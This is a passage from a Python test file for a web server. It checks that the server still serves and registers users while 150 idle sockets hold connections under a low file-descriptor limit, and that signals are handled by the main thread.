    assert {n for _, n in known} == {n for _, n in new}
    known, new = (statistics.median(t for t, _ in s) for s in (known, new))
    assert abs(known - new) < 0.2 * max(known, new), (known, new)


def test_an_idle_crowd_keeps_nobody_out(tmp_path):
    site = Site(tmp_path / "demo", wrap=[
        "sh", "-c", 'ulimit -n 128; exec "$@"', "sh"]).start()
    crowd = []
    try:
        for _ in range(150):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", site.port))
            crowd.append(s)
        before = cpu_seconds(site.process.pid)
        began = time.monotonic()
        assert site.client().get("/de/").status == 200
        assert site.register("a@example.org").status == 303
        assert site.count() == 1
        assert time.monotonic() - began < 8
        assert cpu_seconds(site.process.pid) - before < 0.5
        assert len(site.log_text()) < 20000
    finally:
        for s in crowd:
            s.close()
        site.stop()


def cpu_seconds(pid):
    fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1]
    return sum(int(n) for n in fields.split()[11:13]) / 100


def test_signals_are_the_main_threads(shared_site):
    pid = shared_site.process.pid
    for task in pathlib.Path(f"/proc/{pid}/task").iterdir():
        blocked = int(re.search(r"SigBlk:\s*(\w+)",
                                (task / "status").read_text())[1], 16)
        stops = blocked >> (signal.SIGTERM - 1) & 1
        assert stops == (int(task.name) != pid), (task / "comm").read_text()
